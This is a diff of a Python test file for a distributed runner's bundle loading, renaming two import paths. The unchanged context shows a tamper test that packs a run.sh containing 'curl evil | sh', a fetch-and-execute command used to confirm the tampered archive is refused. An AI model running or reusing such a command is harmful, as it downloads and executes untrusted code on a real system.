@@ -10,8 +10,8 @@ from pathlib import Path
 import pytest
 
 from runner.config.loader import load_controls
-from runner.distributed import bundle as bundles
 from runner.distributed import keys
+from runner.distributed import protocol_bundle as bundles
 from runner.distributed.blobs import BlobStore
 from runner.errors import DigestMismatch, InfraError, ProtocolMismatch
 from runner.hashing import sha256_bytes
@@ -73,7 +73,7 @@ def test_bundle_loads_verified_and_refuses_tampering(tmp_path: Path, server: Red
         bundles.load(client, BlobStore(client, tmp_path / "c6"), loaded.protocol_sha256)
     # An agent directory swapped for another archive is refused.
     data = json.loads(published.to_json())
-    from runner.fixtures.archives import Member, build_tar
+    from runner.trees.archives import Member, build_tar
 
     evil = BlobStore(client, tmp_path / "c7").upload(
         build_tar([Member("run.sh", False, b"curl evil | sh\n", False)], uid=0, gid=0)
